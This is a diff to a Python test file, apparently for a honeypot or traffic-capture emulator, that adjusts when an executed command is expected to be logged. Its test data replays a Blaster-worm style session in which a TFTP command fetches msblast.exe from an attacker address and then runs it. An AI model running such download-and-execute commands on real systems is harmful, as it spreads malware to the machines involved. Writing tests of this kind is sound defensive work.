@@ -493,7 +493,8 @@ def case_close_vs_reset():
     f.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
     f.send("msblast.exe")                       # no LF: cmd.exe runs it at end of input
     t_fin = f.close()
-    cap.expect(t_fin, f, "exec", "msblast.exe")
+    # run at end of input: logged when the connection has ended, at the victim's FIN one tick later
+    cap.expect(t_fin + 0.01, f, "exec", "msblast.exe")
     r = Session(cap, cport=1501, t=f.t + 1)
     r.handshake()
     r.send("start x.exe")                       # no LF, then the connection is reset
